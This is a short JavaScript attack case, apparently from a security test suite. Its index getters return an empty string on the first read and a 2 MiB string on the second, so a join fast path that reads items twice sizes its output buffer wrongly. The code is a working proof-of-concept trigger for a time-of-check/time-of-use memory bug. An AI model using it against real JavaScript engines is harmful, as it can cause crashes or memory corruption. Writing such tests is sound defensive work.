// Threat: the join fast path reads every item once to bound the output, then V8 reads them again:
// an index getter answers '' the first time and a 2 MiB string the second.
class JoinIndexGetterAnswersTwice {
  init() {}
  attack() {
    const n = 45;
    const big = ' '.repeat(2 ** 21);
    const a = new Array(n);
    for (let i = 0; i < n; i++) {
      let reads = 0;
      Object.defineProperty(a, i, { get() { reads++; return reads > 1 ? big : ''; } });
    }
    const s = a.join('');
    return String(s.length);
  }
}
module.exports = JoinIndexGetterAnswersTwice;
